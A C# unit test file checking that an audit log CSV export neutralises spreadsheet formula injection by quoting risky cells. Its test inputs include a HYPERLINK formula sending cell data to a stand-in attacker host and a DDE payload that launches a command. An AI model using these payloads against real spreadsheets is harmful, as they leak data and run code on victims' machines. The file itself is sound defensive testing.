using System.Globalization;
using System.Text;
using CsvHelper;
using OpsConsole.Domain.Audit;

namespace OpsConsole.Tests.Domain;

/// <summary>An audit export opened in a spreadsheet must never run what a user typed as a formula.</summary>
public sealed class AuditCsvEscapingTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task ACellStartingLikeAFormula_IsExportedWithAQuoteInFront(string actorName)
    {
        var cells = await ExportAsync(actorName, "user:" + actorName);

        Assert.Equal("'" + actorName, cells["Actor"]);
        Assert.Equal("user:" + actorName, cells["Subject"]); // starts with a letter: left as it is
    }

    [Theory]
    [InlineData("ann")]
    [InlineData("a=b")]
    [InlineData("o'brien")]
    [InlineData("")]
    public async Task AnOrdinaryCell_IsExportedUnchanged(string actorName)
    {
        var cells = await ExportAsync(actorName, "=subject");

        Assert.Equal(actorName, cells["Actor"]);
        Assert.Equal("'=subject", cells["Subject"]);
    }

    private static async Task<Dictionary<string, string>> ExportAsync(string actorName, string subject)
    {
        var entry = new AuditEntry(new DateTimeOffset(2026, 11, 25, 20, 15, 3, TimeSpan.Zero), "u-1", actorName, "test.csv", subject,
            AuditOutcome.Succeeded, "{\"note\": \"-1\"}");
        using var output = new MemoryStream();
        await AuditExportWriter.WriteCsvAsync(new[] { entry }.ToAsyncEnumerable(), output, TestContext.Current.CancellationToken);

        using var csv = new CsvReader(new StringReader(Encoding.UTF8.GetString(output.ToArray())), CultureInfo.InvariantCulture);
        await csv.ReadAsync();
        csv.ReadHeader();
        Assert.True(await csv.ReadAsync());
        return AuditExportWriter.CsvColumns.ToDictionary(c => c, c => csv.GetField(c)!);
    }
}
